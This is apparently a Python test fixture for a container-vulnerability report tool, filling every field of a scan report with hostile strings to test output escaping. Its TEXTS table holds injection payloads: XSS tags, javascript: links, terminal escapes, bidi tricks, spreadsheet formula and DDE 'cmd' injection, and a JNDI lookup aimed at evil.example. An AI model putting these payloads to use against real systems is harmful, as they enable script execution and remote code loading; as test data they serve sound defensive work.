"""Documents in which every text that comes from outside is hostile."""

from __future__ import annotations

from datetime import date

from attrs import evolve
from portus_policy import GateResult, GateViolation, Suppressed, UnusedRule
from portus_scanners import (
    Cvss,
    Database,
    EndOfLife,
    Finding,
    Image,
    LocalImage,
    LocalReference,
    Outcome,
    Package,
    ReportDocument,
    ScannerReport,
    ScannerRun,
    Severity,
    UnresolvedImage,
    VendorRating,
    make_image_report,
)

TEXTS = {
    "script": "</script><script>alert(1)</script>",
    "html": "<img src=x onerror=alert(1)>\"'><b>&amp;&lt;",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b5m",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200b\ufeff",
    "newlines": "a\nb\r\nc\u2028d\u2029e\x85f\x0bg\x0ch",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula_plus": "+1+1",
    "formula_at": " @SUM(1)",
    "formula_tab": "\t=1+1",
    "formula_inner": "a;=cmd|' /C calc'!A0",
    "javascript": "javascript:alert(1)",
    "markdown_link": "[click](javascript:alert(1)) ![x](http://evil.example/x.png) {0}",
    "markdown_table": "a | b \\| c `code` | ``` \n| --- |\n# heading\n- item\n***",
    "autolinks": "http://evil.example www.evil.example a@evil.example <http://evil.example> @everyone #1 !2 ~bug",
    "nul": "a\0b",
    "surrogate": "a\ud800b\udfff",
    "xml": "]]><!-- \ufffe\uffff\x01 &bogus; <?x ?> <![CDATA[",
    "json": '"},{"x":"\\u0000"',
    "percent": "%s %(x)s {x} ${jndi:ldap://evil.example/a}",
}
HUGE = "<x>|`=1\n\x1b" * 120_000
"""About a megabyte."""


def hostile_document(text: str) -> ReportDocument:
    """Return a document with this text in every place that takes one."""
    image = Image(
        reference=LocalReference("oci:/x", "oci", text, text),
        digest=f"sha256:{text}",
        unsupported=text,
        local=LocalImage(form="oci", path=text, name=text),
    )
    report = make_image_report(image, [_found(text), _failed(text)])
    first, *others = report.vulnerabilities
    found = evolve(
        first,
        suppressed=Suppressed(rule=text, reason=text, by=text, until=date(2027, 1, 31)),
        not_found_by=(text,),
        not_looked_by=(text,),
        aliases=(text, "CVE-2016-1"),
    )
    return ReportDocument(
        reports=(evolve(report, vulnerabilities=(found, *others)),),
        errors=(UnresolvedImage(reference=text, step=text, message=text),),
        unused_rules=(UnusedRule(rule=text, expired=True, message=text),),
        gate=_gate(text),
    )


def _gate(text: str) -> GateResult:
    violation = GateViolation(rule=text, message=text, reference=text, vulnerabilities=(text,))
    return GateResult(passed=False, rules=(text,), violations=(violation, evolve(violation, reference="")))


def _found(text: str) -> ScannerRun:
    finding = Finding(
        id=text,
        aliases=(text,),
        severity=Severity.HIGH,
        severity_label=text,
        severity_source=text,
        vendor_ratings=(VendorRating(source=text, severity=Severity.LOW, label=text),),
        package=Package(text, text, text),
        source_package=Package(f"{text}-source", text, text),
        purl=text,
        path=text,
        fixed_by=(text,),
        links=(
            text,
            f"http://{text}",
            "javascript:alert(1)",
            "data:text/html,x",
            f"https://example.org/{text}",
            "https://example.org/ok",
        ),
        title=text,
        description=text,
        cvss=(Cvss(version=text, vector=text, score=9.8, source=text),),
        layer=text,
        details={text: text},
    )
    notes = (text, "a note")
    report = ScannerReport(
        findings=(finding, evolve(finding, id=f"CVE-2016-6304 {text}")),
        notes=notes,
        scanner_version=text,
        database=Database(identity=text),
        end_of_life=EndOfLife(source=text, distribution=text),
    )
    return ScannerRun(scanner="clair", plugin=text, outcome=Outcome.OK, report=report)


def _failed(text: str) -> ScannerRun:
    return ScannerRun(scanner=text, plugin="acme", outcome=Outcome.FAILED, error=text)
